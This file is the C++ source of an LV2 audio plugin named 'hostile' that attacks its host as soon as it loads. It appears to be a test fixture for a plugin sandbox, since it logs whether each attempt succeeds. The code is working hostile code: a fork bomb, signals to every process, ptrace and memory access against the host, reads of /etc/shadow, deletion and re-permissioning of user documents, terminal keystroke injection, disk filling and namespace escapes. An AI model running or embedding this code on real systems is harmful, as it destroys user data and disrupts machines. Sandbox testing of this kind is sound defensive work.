// An effect that attacks its host at its instantiation. Its bundle has a file "targets" with lines
// "<name> <value>". Logs each attempt as "<what>: done" or "<what>: <name of errno>". With a target
// "children" it only makes children of each kind, which live for ever; with "bomb" as many as it
// can, with "leak" one child that uses that many MiB; with "group" it only writes settings, with
// "cache" it only uses caches, with "hoard" it only fills its own; with "sockets" it only reaches
// for sockets and out of the host's control.

#include <fcntl.h>
#include <linux/ioprio.h>
#include <lv2/core/lv2.h>
#include <lv2/log/log.h>
#include <lv2/urid/urid.h>
#include <pty.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cerrno>
#include <csignal>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <string>
#include <string_view>
#include <vector>

namespace {

using Targets = std::map<std::string, std::string>;

class Attacker {
  public:
    Attacker(const LV2_Log_Log& log, const LV2_URID_Map& map, std::string bundle)
        : log_(log),
          note_(map.map(map.handle, LV2_LOG__Note)),
          bundle_(std::move(bundle)),
          scratch_(std::filesystem::temp_directory_path()) {
        std::ifstream file(bundle_ + "targets");
        for (std::string name, value; file >> name >> value;) {
            targets_[name] = value;
        }
        host_ = static_cast<pid_t>(number("host"));
    }

    void attack() const {
        if (targets_.contains("group")) {
            sayOpen("write the group's settings", target("group"), O_WRONLY | O_CREAT);
            sayOpen("write other settings", target("other"), O_WRONLY | O_CREAT);
        } else if (targets_.contains("cache")) {
            useCaches();
        } else if (targets_.contains("hoard")) {
            hoard();
        } else if (targets_.contains("children")) {
            makeChildren();
        } else if (targets_.contains("bomb")) {
            explode();
        } else if (targets_.contains("leak")) {
            leak(static_cast<std::size_t>(number("leak")) << 20U);
        } else if (targets_.contains("sockets")) {
            attackSockets();
            escape();
        } else {
            attackProcesses();
            escape();
            attackFiles();
            fillMemory();
            attackDevices();
            attackSockets();
            attackKernel();
            useWhatEffectsNeed();
        }
    }

  private:
    long number(const std::string& name) const {
        const auto found = targets_.find(name);
        return found == targets_.end() ? 0 : std::stol(found->second);
    }
    const std::string& target(const std::string& name) const { return targets_.at(name); }

    void tell(const std::string& line) const {
        log_.printf(log_.handle, note_, "%s\n", line.c_str());
    }
    /// Logs the outcome of a system call; -1 stands for errno.
    void say(const std::string& what, long result) const {
        tell(what + ": " + (result == -1 ? strerrorname_np(errno) : "done"));
    }
    void sayOpen(const std::string& what, const std::string& path, int flags) const {
        const int file = open(path.c_str(), flags | O_CLOEXEC | O_NOCTTY, 0600);
        say(what, file);
        if (file >= 0) {
            close(file);
        }
    }

    [[noreturn]] static void sleepForEver() {
        for (;;) {
            pause();
        }
    }

    static void makeChildren() {
        if (fork() == 0) {
            sleepForEver();
        }
        const auto middle = fork();
        if (middle == 0) {
            setsid();
            if (fork() == 0) {
                signal(SIGTERM, SIG_IGN);
                signal(SIGHUP, SIG_IGN);
                sleepForEver();
            }
            _exit(0);
        }
        waitpid(middle, nullptr, 0);
        if (syscall(SYS_clone, CLONE_PARENT | SIGCHLD, nullptr, nullptr, nullptr, 0) == 0) {
            setsid();
            sleepForEver();
        }
    }

    static void explode() {
        pid_t child = -1;
        while ((child = fork()) > 0) {
        }
        if (child == 0) {
            sleepForEver();
        }
    }

    static void leak(std::size_t size) {
        if (fork() == 0) {
            const std::vector<char> memory(size, 1);
            sleepForEver();
        }
    }

    void attackProcesses() const {
        const rlimit none{0, 0};
        say("limit the host", syscall(SYS_prlimit64, host_, RLIMIT_NOFILE, &none, nullptr));
        cpu_set_t one;
        CPU_ZERO(&one);
        CPU_SET(0, &one);
        say("bind the host to a processor", sched_setaffinity(host_, sizeof(one), &one));
        const sched_param parameters{};
        say("make the host idle", sched_setscheduler(host_, SCHED_IDLE, &parameters));
        say("slow the host down", setpriority(PRIO_PROCESS, static_cast<id_t>(host_), 19));
        setpriority(PRIO_USER, getuid(), 19);
        setpriority(PRIO_PGRP, 0, 19);
        constexpr int kIdle = IOPRIO_CLASS_IDLE << IOPRIO_CLASS_SHIFT;
        say("make the host's disk slow", syscall(SYS_ioprio_set, IOPRIO_WHO_PROCESS, host_, kIdle));
        syscall(SYS_ioprio_set, IOPRIO_WHO_USER, getuid(), kIdle);
        syscall(SYS_ioprio_set, IOPRIO_WHO_PGRP, 0, kIdle);
        say("signal the host", kill(host_, SIGTERM));
        say("signal the host's group", kill(-host_, SIGTERM));
        kill(-1, SIGTERM);
        say("trace the host", ptrace(PTRACE_ATTACH, host_, nullptr, nullptr));
        constexpr long kNoFlag = 1;
        say("read the host's memory",
            syscall(SYS_process_vm_readv, host_, nullptr, 0, nullptr, 0, kNoFlag));
        sayOpen("open the host's memory", "/proc/" + std::to_string(host_) + "/mem", O_RDWR);
        sayOpen("list the host's files", "/proc/" + std::to_string(host_) + "/fd", O_RDONLY);
    }

    void escape() const {
        say("outlive the host", prctl(PR_SET_PDEATHSIG, 0));
        constexpr long kHighBit = 1L << 32;
        say("outlive the host by high bits", syscall(SYS_prctl, kHighBit | PR_SET_PDEATHSIG, 0));
    }

    void attackFiles() const {
        const auto& document = target("document");
        sayOpen("read a document", document, O_RDONLY);
        sayOpen("write a document", document, O_WRONLY);
        say("chmod a document", chmod(document.c_str(), 0));
        say("chown a document", chown(document.c_str(), 1, 1));
        say("date a document", utimensat(AT_FDCWD, document.c_str(), nullptr, 0));
        say("mark a document", setxattr(document.c_str(), "user.a", "b", 1, 0));
        say("remove a document", unlink(document.c_str()));
        sayOpen("make a file at home", target("home") + "/made", O_WRONLY | O_CREAT);
        const auto own = bundle_ + "manifest.ttl";
        sayOpen("write its bundle", own, O_WRONLY);
        sayOpen("make a file in its bundle", bundle_ + "made", O_WRONLY | O_CREAT);
        say("chmod its bundle", chmod(own.c_str(), 0));
        say("date its bundle", utimensat(AT_FDCWD, own.c_str(), nullptr, 0));
        say("mark its bundle", setxattr(own.c_str(), "user.a", "b", 1, 0));
        sayOpen("read a key through a linked folder", bundle_ + "keys/id", O_RDONLY);
        sayOpen("read a linked key", bundle_ + "key", O_RDONLY);
        sayOpen("read a linked file of a locked folder", bundle_ + "hosts", O_RDONLY);
        sayOpen("read a linked resource", bundle_ + "resource", O_RDONLY);
        sayOpen("read a resource behind two links", bundle_ + "indirect", O_RDONLY);
        sayOpen("write a linked resource", bundle_ + "resource", O_WRONLY);
        sayOpen("read the passwords", "/etc/shadow", O_RDONLY);
        sayOpen("set where core files go", "/proc/sys/kernel/core_pattern", O_WRONLY);
        constexpr long kNoText = 1;
        say("mount", syscall(SYS_mount, "none", "/tmp", kNoText, 0, nullptr));
    }

    static std::string cache() {
        const char* folder = getenv("MESA_SHADER_CACHE_DIR");
        return folder == nullptr ? "/nowhere" : folder;
    }

    void useCaches() const {
        const auto own = cache();
        sayOpen("read its shader", own + "/shader", O_RDONLY);
        sayOpen("keep a shader", own + "/shader", O_WRONLY | O_CREAT);
        sayOpen("read another effect's shader", own + "/../other/shader", O_RDONLY);
        sayOpen("write beside its cache", own + "/../shader", O_WRONLY | O_CREAT);
    }

    /// Keeps 20 MiB for ever where it has a cache.
    void hoard() const {
        const auto folder = cache() + "/locked";
        say("make a folder in its cache", mkdir(folder.c_str(), 0700));
        const int file = open((folder + "/hoard").c_str(), O_RDWR | O_CREAT | O_CLOEXEC, 0600);
        if (file >= 0 && posix_fallocate(file, 0, 20 << 20) == 0) {
            say("lock the folder", chmod(folder.c_str(), 0));
            pause();
        }
    }

    void sayFill(const std::string& what, const std::string& path, off_t size) const {
        const int file = open(path.c_str(), O_RDWR | O_CREAT | O_CLOEXEC, 0600);
        const int error = file < 0 ? errno : posix_fallocate(file, 0, size);
        close(file);
        unlink(path.c_str());
        errno = error;
        say(what, error == 0 ? 0 : -1);
    }

    void fillMemory() const {
        constexpr off_t kMebibyte = 1 << 20;
        sayFill("fill half its folder", scratch_ + "/filling", 128 * kMebibyte);
        sayFill("fill its folder", scratch_ + "/filling", 257 * kMebibyte);
        sayFill("fill the shared memory", "/dev/shm/filling", 65 * kMebibyte);
        sayOpen("fill the root", "/made", O_WRONLY | O_CREAT);
        sayOpen("fill the devices", "/dev/made", O_WRONLY | O_CREAT);
        sayOpen("fill the temporary files", "/tmp/made", O_WRONLY | O_CREAT);
        // A path that is too long for a removal by its name.
        say("enter its folder", chdir(scratch_.c_str()));
        const std::string name(200, 'd');
        for (int depth = 0; depth < 30; ++depth) {
            mkdir(name.c_str(), 0700);
            static_cast<void>(!chdir(name.c_str()));
        }
        mkdir("locked", 0700);
        sayOpen("nest folders", "locked/file", O_WRONLY | O_CREAT);
        say("lock a folder", chmod("locked", 0));
        static_cast<void>(!chdir("/"));
    }

    void attackDevices() const {
        const int terminal = open("/dev/tty", O_RDWR | O_CLOEXEC);
        say("open the terminal", terminal);
        const char key = 'x';
        say("type into the terminal", ioctl(terminal, TIOCSTI, &key));
        sayOpen("open another terminal", target("terminal"), O_RDWR);
        sayOpen("read the shared memory", target("shared"), O_RDONLY);
        std::set<std::string> names;
        for (const auto& entry : std::filesystem::directory_iterator("/dev")) {
            names.insert(entry.path().filename());
        }
        std::string all;
        for (const auto& name : names) {
            all += " " + name;
        }
        tell("devices:" + all);
    }

    void sayConnect(const std::string& what, const std::string& name, bool isAbstract) const {
        sockaddr_un address{};
        address.sun_family = AF_UNIX;
        std::copy(name.begin(), name.end(), std::begin(address.sun_path) + (isAbstract ? 1 : 0));
        const int socket = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        const auto length = offsetof(sockaddr_un, sun_path) + name.size() + 1;
        say(what, connect(socket, reinterpret_cast<const sockaddr*>(&address),
                          static_cast<socklen_t>(length)));
        close(socket);
    }

    /// Lists the descriptors that a child would inherit.
    void sayDescriptors() const {
        std::string all;
        for (int number = 0; number < 256; ++number) {
            const int flags = fcntl(number, F_GETFD);
            if (flags >= 0 && (flags & FD_CLOEXEC) == 0) {
                all += " " + std::to_string(number);
            }
        }
        tell("descriptors:" + all);
    }

    void attackSockets() const {
        sayDescriptors();
        sayConnect("reach a service's socket", target("socket"), false);
        sayConnect("reach an abstract socket", target("abstract"), true);
        say("socket of IPv4", socket(AF_INET, SOCK_STREAM, 0));
        say("socket of IPv6", socket(AF_INET6, SOCK_DGRAM, 0));
        say("socket of packets", socket(AF_PACKET, SOCK_RAW, 0));
        say("socket of the kernel", socket(AF_NETLINK, SOCK_RAW, 0));
        say("ring of requests", syscall(SYS_io_uring_setup, 1, nullptr));
    }

    void attackKernel() const {
        say("clone with namespaces",
            syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, nullptr, nullptr, nullptr, 0));
        std::array<std::uint64_t, 8> arguments{CLONE_NEWUSER};
        say("clone3 with namespaces", syscall(SYS_clone3, arguments.data(), sizeof(arguments)));
        say("unshare", unshare(CLONE_NEWUSER));
        const int network = open("/proc/1/ns/net", O_RDONLY | O_CLOEXEC);
        say("setns", setns(network, 0));
        close(network);
        say("keep a secret from the user", syscall(SYS_keyctl, 0, -3, 0, 0, 0));
        say("make shared memory", shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0600));
        say("leave a queue behind", msgget(IPC_PRIVATE, IPC_CREAT | 0600));
        say("leave semaphores behind", semget(IPC_PRIVATE, 1, IPC_CREAT | 0600));
        std::ifstream status("/proc/self/status");
        for (std::string line; std::getline(status, line);) {
            if (line.starts_with("Cap") || line.starts_with("NoNewPrivs")) {
                std::replace(line.begin(), line.end(), '\t', ' ');
                tell(line);
            }
        }
    }

    void useWhatEffectsNeed() const {
        sayOpen("read its bundle", bundle_ + "manifest.ttl", O_RDONLY);
        sayOpen("write a temporary file", scratch_ + "/made", O_RDWR | O_CREAT);
        sayOpen("write nowhere", "/dev/null", O_WRONLY | O_TRUNC);
        sayOpen("read the system's files", "/etc/passwd", O_RDONLY);
        sayOpen("read a preset at home", target("home") + "/.lv2/preset", O_RDONLY);
        sayOpen("change a preset at home", target("home") + "/.lv2/preset", O_WRONLY);
        say("make a bundle at home", mkdir((target("home") + "/.lv2/evil.lv2").c_str(), 0755));
        say("name a thread", prctl(PR_SET_NAME, "hostile"));
        const pid_t child = fork();
        if (child == 0) {
            execl("/bin/true", "true", nullptr);
            _exit(126);
        }
        int status = 0;
        waitpid(child, &status, 0);
        say("run a program", WIFEXITED(status) && WEXITSTATUS(status) == 0 ? 0 : -1);
    }

    const LV2_Log_Log& log_;
    const LV2_URID note_;
    const std::string bundle_;
    const std::string scratch_;
    Targets targets_;
    pid_t host_ = 0;
};

struct Effect {
    std::array<float*, 4> ports{};
};

LV2_Handle instantiate(const LV2_Descriptor* /*descriptor*/, double /*rate*/, const char* bundle,
                       const LV2_Feature* const* features) {
    const LV2_Log_Log* log = nullptr;
    const LV2_URID_Map* map = nullptr;
    for (; *features != nullptr; ++features) {
        const std::string_view uri((*features)->URI);
        if (uri == LV2_LOG__log) {
            log = static_cast<const LV2_Log_Log*>((*features)->data);
        } else if (uri == LV2_URID__map) {
            map = static_cast<const LV2_URID_Map*>((*features)->data);
        }
    }
    if (log == nullptr || map == nullptr) {
        return nullptr;
    }
    Attacker(*log, *map, bundle).attack();
    return new Effect;
}

void connectPort(LV2_Handle handle, std::uint32_t port, void* location) {
    static_cast<Effect*>(handle)->ports.at(port) = static_cast<float*>(location);
}

void run(LV2_Handle handle, std::uint32_t frames) {
    const auto& ports = static_cast<Effect*>(handle)->ports;
    for (std::size_t channel = 0; channel < 2; ++channel) {
        std::copy_n(ports[channel], frames, ports[2 + channel]);
    }
}

void cleanup(LV2_Handle handle) {
    delete static_cast<Effect*>(handle);
}

}  // namespace

LV2_SYMBOL_EXPORT const LV2_Descriptor* lv2_descriptor(std::uint32_t index) {
    static const LV2_Descriptor descriptor{
        "urn:orvalo:hostile", instantiate, connectPort, nullptr, run, nullptr, cleanup, nullptr};
    return index == 0 ? &descriptor : nullptr;
}
